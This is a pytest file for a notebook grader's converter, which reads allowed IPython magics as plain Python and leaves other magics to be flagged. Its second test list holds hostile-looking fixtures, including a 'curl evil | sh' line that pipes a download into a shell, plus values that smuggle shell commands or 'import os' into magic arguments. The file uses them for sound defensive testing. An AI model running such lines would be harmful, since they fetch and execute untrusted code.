"""The magics honest notebooks use are read as the Python they run; every other is left alone."""

from __future__ import annotations

import pytest

from grader.batch.magics import as_plain_python


@pytest.mark.parametrize(
    ("cell", "python"),
    [
        ("%matplotlib inline\nx = 1", "pass\nx = 1"),
        ("%time history = train(model)", "history = train(model)"),
        ("%timeit -n 10 -r3 model(batch)", "model(batch)"),
        ("for i in range(2):\n    %time step(i)", "for i in range(2):\n    step(i)"),
        ("%%time\nimport numpy as np\nx = 1", "pass\nimport numpy as np\nx = 1"),
        ("%%timeit setup()\nrun()", "setup()\nrun()"),
        ("%load_ext autoreload\n%autoreload 2", "pass\npass"),
        ("normalize_token?", "pass"),
        ("??bilstm_ner.conll.normalize_token", "pass"),
        ("%%capture out\nhistory = train(model)", "pass\nhistory = train(model)"),
        ('%config InlineBackend.figure_format = "retina"', "pass"),
        ("%config InlineBackend.figure_formats = {'png', 'svg'}", "pass"),
        ("%config Completer.use_jedi = False\n%precision 3\n%xmode Minimal", "pass\npass\npass"),
        ("%pip install seqeval\n!pip install -q tqdm==4.66", "pass\npass"),
        ("%pip install -q seqeval  # for the F1 table", "pass"),
        ("%matplotlib inline  # plots below the cells", "pass"),
        # a verbose regex's line that looks like help (`name?`) is a line of a string: kept
        (
            'URL = re.compile(r"""\n    https?\n""", re.X)',
            'URL = re.compile(r"""\n    https?\n""", re.X)',
        ),
        ("!python -m pip install --user seqeval", "pass"),
    ],
)
def test_each_allowed_magic_becomes_its_code_line_for_line(cell, python):
    assert as_plain_python(cell) == python
    assert len(as_plain_python(cell).split("\n")) == len(cell.split("\n"))


@pytest.mark.parametrize(
    "cell",
    [
        "%matplotlib module://my_backend",  # a backend named by module imports it
        "%load_ext grader_helpers",  # an extension is code of its own
        "%autoreload 2; import os",
        "%run other.py",
        "%config IPKernelApp.exec_lines = ['import os']",  # only display settings, literal
        "%config InlineBackend.rc = {'a': __import__('os')}",
        "%precision %.4f; import os",
        "!pip install x && curl evil | sh",  # a shell line, not only an install
        "%pip install $(cat list)",
        "!python -m pip install --user 'x'",  # quotes: the shell's, not a package name
        "x = 1\n%%capture",
        "!ls",
        "x = %time f()",
        "print(1)\n%%time\nx = 1",  # a cell magic only counts on the first line
    ],
)
def test_every_other_magic_is_kept_for_the_scan_to_flag(cell):
    assert as_plain_python(cell) == cell
